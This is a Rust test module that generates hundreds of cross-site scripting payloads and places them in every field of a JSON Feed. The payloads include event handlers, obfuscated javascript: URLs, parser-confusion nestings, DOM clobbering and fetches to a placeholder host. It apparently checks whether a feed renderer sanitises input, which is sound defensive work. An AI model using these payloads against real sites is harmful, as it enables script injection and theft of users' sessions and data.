//! Payloads that run a script, or fetch something, on a page that puts a feed's text into its HTML unwisely.
//!
//! `MARK` stands in each where the script or the address would be, so that a page under test can see what got through:
//! it defines `globalThis.pwned` and watches for requests to `payload.example`.

/// The script that must never run.
pub(crate) const MARK: &str = "pwned(1)";

/// Handlers that browsers have, by what sets them off without anybody's doing, as far as they have such.
const HANDLERS: [&str; 40] = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "onanimationstart",
    "onanimationend",
    "ontoggle",
    "onbegin",
    "onend",
    "onrepeat",
    "onstart",
    "onfinish",
    "onbounce",
    "onpageshow",
    "onhashchange",
    "onmessage",
    "onresize",
    "onscroll",
    "onscrollend",
    "onwheel",
    "onpointerenter",
    "onpointerrawupdate",
    "ontransitionend",
    "ontransitionrun",
    "onbeforeinput",
    "oninput",
    "oninvalid",
    "onsubmit",
    "onreset",
    "onselect",
    "oncanplay",
    "onloadstart",
    "onplay",
    "ontimeupdate",
    "oncuechange",
    "onbeforetoggle",
    "oncontentvisibilityautostatechange",
    "onfullscreenchange",
];

/// Elements that can set one off.
const ELEMENTS: [&str; 8] = [
    "<img src=x {}>",
    "<svg {}>",
    "<details open {}>",
    "<video src=x autoplay {}>",
    "<body {}>",
    "<input autofocus {}>",
    "<p style='animation:x' {}>",
    "<marquee {}>",
];

/// Ways to write an address that runs a script.
const SCHEMES: [&str; 20] = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "\u{1}javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "java&#9;script:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "&#x6A&#x61vascript:{}",
    "javascript://%0a{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={}>",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "jar:javascript:{}!/",
    "blob:javascript:{}",
    "filesystem:javascript:{}",
];

/// Places for an address.
const PLACES: [&str; 14] = [
    "<a href=\"{}\">x</a>",
    "<img src=\"{}\">",
    "<img srcset=\"{} 1x\">",
    "<iframe src=\"{}\"></iframe>",
    "<embed src=\"{}\">",
    "<object data=\"{}\"></object>",
    "<video poster=\"{}\" src=\"{}\"></video>",
    "<form action=\"{}\"><button>x</button></form>",
    "<button formaction=\"{}\">x</button>",
    "<base href=\"{}\">",
    "<link rel=stylesheet href=\"{}\">",
    "<svg><a xlink:href=\"{}\"><text>x</text></a></svg>",
    "<math href=\"{}\"><mi>x</mi></math>",
    "<blockquote cite=\"{}\">x</blockquote>",
];

/// Nestings that parsers have read in two ways, and other single cases.
const SINGLE: [&str; 44] = [
    "<script>{}</script>",
    "<script src=//payload.example/x.js></script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<svg><script>{}</script></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={}&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<template><script>{}</script></template>",
    "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
    "<iframe src=//payload.example/></iframe>",
    "<meta http-equiv=refresh content=\"0;url=//payload.example/\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<base href=//payload.example/>",
    "<style>@import '//payload.example/x.css';</style>",
    "<p style=\"background:url(//payload.example/x)\">x</p>",
    "<p style=\"width:expression({})\">x</p>",
    "<div style=\"position:fixed;inset:0;z-index:99999\">x</div>",
    "<link rel=prefetch href=//payload.example/x>",
    "<link rel=import href=//payload.example/x>",
    "<a ping=//payload.example/x href=/ok>x</a>",
    "<img name=getElementById src=data:,>",
    "<form id=location><input name=href>",
    "<a id=defaultView>x</a><a id=defaultView name=x>y</a>",
    "<img id=__proto__ name=constructor src=data:,>",
    "<textarea><img src=x onerror={}></textarea>",
    "<title><img src=x onerror={}></title>",
    "<xmp><img src=x onerror={}></xmp>",
    "<plaintext><img src=x onerror={}>",
    "<!--><img src=x onerror={}>-->",
    "<!--[if IE]><script>{}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml-stylesheet href=\"javascript:{}\"?>",
    "<frameset onload={}>",
    "<isindex action=javascript:{} type=image>",
    "<dialog open onclose={}><form method=dialog><button>x</button></form></dialog>",
    "<slot onslotchange={}>x</slot>",
    "<custom-element onclick={}>x</custom-element>",
    "<object type=text/html data=//payload.example/></object>",
    "<audio src=//payload.example/x autoplay>",
    "<portal src=//payload.example/>",
    "<select><noembed></select><script>{}</script>",
    "{{constructor.constructor('{}')()}}",
];

/// All payloads.
pub(crate) fn payloads() -> Vec<String> {
    let with_mark = |payload: &str| payload.replace("{}", MARK);
    let mut payloads: Vec<String> = SINGLE.iter().map(|payload| with_mark(payload)).collect();
    for (place, handler) in HANDLERS.iter().enumerate() {
        for element in [ELEMENTS[place % ELEMENTS.len()], ELEMENTS[(place + 3) % ELEMENTS.len()]] {
            payloads.push(element.replace("{}", &format!("{handler}={MARK}")));
        }
    }
    for scheme in SCHEMES {
        payloads.extend(PLACES.iter().map(|place| place.replace("{}", &with_mark(scheme))));
    }
    payloads
}

/// A feed with one story per payload, which stands in each of its fields.
pub(crate) fn feed(payloads: &[String]) -> serde_json::Value {
    let items: Vec<serde_json::Value> = payloads
        .iter()
        .enumerate()
        .map(|(place, payload)| {
            let caption = format!("A caption {payload}");
            serde_json::json!({
                "id": format!("payload-{place}"), "title": format!("Payload {place} {payload}"), "summary": payload,
                "url": payload, "external_url": payload, "image": payload, "language": payload,
                "content_html": format!("<p>Before.</p>{payload}<figure><img src=\"{payload}\" alt=\"{payload}\"><figcaption>{payload}</figcaption></figure><p>After.</p>"),
                "tags": [payload, "payload"], "authors": [{ "name": payload, "url": payload }], "date_published": payload,
                "_dateline": {
                    "kicker": payload, "section": payload, "byline": payload, "source": payload, "dir": payload,
                    "dateline": { "place": payload, "day": payload },
                    "lead": { "url": payload, "alt": payload, "caption_html": caption, "credit": payload, "licence": { "name": payload, "url": payload } },
                    "pictures": [{ "url": payload, "caption": payload }, { "url": "/ok.png", "caption": payload, "credit": payload, "alt": payload }],
                    "corrections": [{ "at": payload, "text": payload }],
                    "tags": [{ "name": payload, "kind": payload, "url": payload }],
                },
            })
        })
        .collect();
    serde_json::json!({ "version": "https://jsonfeed.org/version/1.1", "title": "Payloads", "items": items })
}
